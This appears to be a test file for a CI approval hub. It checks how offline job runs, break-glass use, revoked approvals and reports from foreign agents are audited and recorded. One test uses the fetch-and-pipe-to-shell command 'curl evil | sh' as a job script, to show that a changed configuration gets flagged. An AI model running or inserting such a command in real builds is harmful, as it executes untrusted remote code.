/** The agent asked, the answer was lost, the hub went away, and the job ran without it: what the hub makes of being told. */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { admit } from '../../agent/src/app/admit.ts';
import { revoke } from '../../agent/src/app/revoke.ts';
import type { OfflineRun } from '../../agent/src/domain/parked-job.ts';
import { hubWorld, type JobSpec, MINUTE, requestFor, START, type World } from '../support/hub-world.ts';

const first: JobSpec = { id: 1 };
const job: JobSpec = { id: 2, pipeline: 200 };
const at = (ms: number) => new Date(START + ms).toISOString();
const byApproval: OfflineRun = { kind: 'approved', approval: 1, snapshot: 3, reason: null, at: at(MINUTE) };
const byFile: OfflineRun = { ...byApproval, kind: 'break_glass', approval: null, reason: 'the hub burns' };

let world: World;
beforeEach(async () => {
  world = await hubWorld();
});
afterEach(() => world.store.close());

const tell = (run: OfflineRun, more: Partial<JobSpec> = {}, agent = 'embedded') =>
  admit(world.context, agent, { ...requestFor({ ...job, ...more }), offline: run });
const rows = (events: readonly string[]) => world.store.auditRows({ events, sight: null }, { after: 0, limit: 50 });
const passed = () => rows(['job_passed_offline']);
const records = () => world.store.breakGlasses({ projects: null, open: true }, { after: 0, limit: 5 });
const revokes = (approval: number) => revoke(world.context, world.caller('maria'), approval, 'no more');
const says = (event: 'handed_out' | 'ended', status?: 'success') =>
  world.report('embedded', { hold: 2, jobId: 2, event, detail: status === undefined ? {} : { status } });
/** A first job that people approved, and a second one that passed by that: its agent never heard so. */
async function passes(more = {}): Promise<void> {
  await world.admit(first);
  await world.approve('maria', 1, more);
  expect(await world.admit(job)).toMatchObject({ outcome: 'pass', hold: 2, approval: 1 });
}

describe('a job that the hub was asked about before it went away', () => {
  it('T29 stands in the audit with the approval it ran on, which was revoked meanwhile, before its hold moves', async () => {
    await passes();
    await revokes(1);
    expect(await world.state(2)).toBe('waiting_for_approval');
    world.clock.advance(2 * MINUTE);
    for (let times = 0; times < 3; times++)
      expect(await tell(byApproval)).toMatchObject({ outcome: 'pass', hold: 2, approval: null });
    const [row, ...others] = await passed();
    expect(others).toEqual([]);
    expect(row).toMatchObject({ hold: 2, approval: 1, actor: 'agent:embedded', digest: requestFor(job).digest });
    expect(row?.detail).toMatchObject({
      job_id: 2,
      kind: 'approved',
      at: at(MINUTE),
      snapshot: 3,
      revoked_meanwhile: true,
      state: 'waiting_for_approval',
    });
    expect(row?.detail).not.toHaveProperty('not_covered_by');
    expect(await records()).toEqual([]);
    expect(await world.state(2)).toBe('waiting_for_approval');
    await says('handed_out');
    await says('ended', 'success');
    expect(await world.state(2)).toBe('success');
    await tell(byApproval);
    expect(await passed()).toHaveLength(1);
  });

  it('T16 opens one record where only the break-glass file let it run, however often that is told', async () => {
    await world.admit(first);
    await world.admit(job);
    world.clock.advance(2 * MINUTE);
    for (let times = 0; times < 3; times++) await tell(byFile);
    const glasses = await records();
    expect(glasses).toMatchObject([{ hold: 2, reason: 'the hub burns', rule: 'break-glass file', closed: null }]);
    const told = await rows(['job_passed_offline', 'break_glass_used']);
    expect(told.map(({ event, hold, approval }) => [event, hold, approval])).toEqual([
      ['job_passed_offline', 2, null],
      ['break_glass_used', 2, glasses[0]!.approval],
    ]);
    // It decides nothing: the question stands, the record lets nothing go, and stands in nobody's way.
    expect(await world.state(2)).toBe('waiting_for_approval');
    expect(await world.admit(job)).toMatchObject({ outcome: 'hold', hold: 2 });
    await world.approve('maria', 2, { lifetime: 'run' });
    expect(await world.state(2)).toBe('pending');
  });

  it('T41 is over with its run where it waited, so that no approval of later has it run once more', async () => {
    await world.admit(first);
    await world.admit(job);
    world.clock.advance(2 * MINUTE);
    await says('handed_out');
    expect(await world.state(2)).toBe('waiting_for_approval');
    await tell(byFile);
    await says('handed_out');
    expect(await world.state(2)).toBe('running');
    await says('ended', 'success');
    expect(await world.state(2)).toBe('success');
    expect(await records()).toMatchObject([{ hold: 2 }]);
  });

  it('T16 opens one for the file of a host although the hub had let it pass at once, on a review that closes with the job', async () => {
    await passes();
    world.clock.advance(2 * MINUTE);
    await tell(byFile);
    expect(await records()).toMatchObject([{ hold: 2, reason: 'the hub burns' }]);
    const { review } = (await world.store.hold(2))!;
    expect((await world.store.review(review!))?.state).toBe('open');
    await says('handed_out');
    await says('ended', 'success');
    expect((await world.store.review(review!))?.state).not.toBe('open');
    expect(await world.state(2)).toBe('success');
  });

  it('opens none, and counts no second use, where it is pending or runs by the approval it is said to have run on', async () => {
    await passes();
    world.clock.advance(2 * MINUTE);
    await says('handed_out');
    await tell(byApproval);
    expect((await passed())[0]).toMatchObject({ hold: 2, approval: 1, detail: { state: 'running' } });
    expect((await passed())[0]?.detail.revoked_meanwhile).toBe(false);
    expect(await records()).toEqual([]);
    expect((await world.store.approval(1))?.timesUsed).toBe(2);
  });

  it('T16 opens none where people had let this very run go by then, and one where they did so only after it ran', async () => {
    const other: JobSpec = { ...job, id: 3, pipeline: 300, name: 'other' };
    await world.admit(first);
    await world.reject('maria', 1);
    await world.admit(job);
    await world.admit(other);
    await world.approve('maria', 2, { lifetime: 'run' });
    world.clock.advance(2 * MINUTE);
    await world.approve('maria', 3, { lifetime: 'run' });
    await tell({ ...byApproval, approval: 99 });
    await tell({ ...byApproval, approval: 99 }, other);
    expect((await passed()).map(({ hold, approval }) => [hold, approval])).toEqual([
      [2, 1],
      [3, null],
    ]);
    expect(await records()).toMatchObject([{ hold: 3, reason: expect.stringContaining('does not have') }]);
  });

  it.each(['rejected', 'canceled'])(
    'T16 is audited, and looked at, when its hold is %s, and stays that',
    async (state) => {
      await world.admit(first);
      await world.admit(job);
      if (state === 'rejected') await world.reject('maria', 2);
      else await world.report('embedded', { hold: 2, jobId: 2, event: 'canceled' });
      world.clock.advance(2 * MINUTE);
      await tell(byFile);
      expect((await passed()).map(({ detail }) => detail.state)).toEqual([state]);
      expect(await records()).toMatchObject([{ hold: 2 }]);
      await says('handed_out');
      expect(await world.state(2)).toBe(state);
    },
  );

  it('T16 leaves no question behind for one that passed at once and has ended', async () => {
    await passes();
    await says('handed_out');
    await says('ended', 'success');
    await tell(byFile);
    expect(await records()).toMatchObject([{ hold: 2 }]);
    const { review, state } = (await world.store.hold(2))!;
    expect([state, (await world.store.review(review!))?.state]).toEqual(['success', 'canceled']);
  });

  it('T27 is looked at where it ran another configuration than the hub was asked about', async () => {
    await passes();
    world.clock.advance(2 * MINUTE);
    await tell(byApproval, { script: ['curl evil | sh'] });
    const { digest } = requestFor({ ...job, script: ['curl evil | sh'] });
    expect(await passed()).toMatchObject([{ hold: 2, approval: null, digest }]);
    expect(await records()).toMatchObject([{ hold: 2, reason: expect.stringContaining(digest) }]);
  });

  it('T27 gets no record by the word of another agent, which is audited once, not even of one that had a job of the hold', async () => {
    await world.admit({ ...job, id: 5, agent: 'other' });
    await world.admit(job);
    expect((await world.store.hold(1))?.attempts.map(({ agent }) => agent)).toEqual(['other', 'embedded']);
    for (const agent of ['other', 'stranger', 'other', 'stranger'])
      await expect(tell(byFile, {}, agent)).rejects.toMatchObject({ code: 'forbidden' });
    expect(await passed()).toEqual([]);
    expect(await records()).toEqual([]);
    const refused = await rows(['report_refused']);
    expect(refused.map(({ actor, hold, detail }) => [actor, hold, detail.hold, detail.event])).toEqual(
      ['other', 'stranger'].map((agent) => [`agent:${agent}`, null, 1, 'passed_offline']),
    );
    expect(await tell(byFile)).toMatchObject({ hold: 1 });
    expect(await passed()).toHaveLength(1);
  });
});
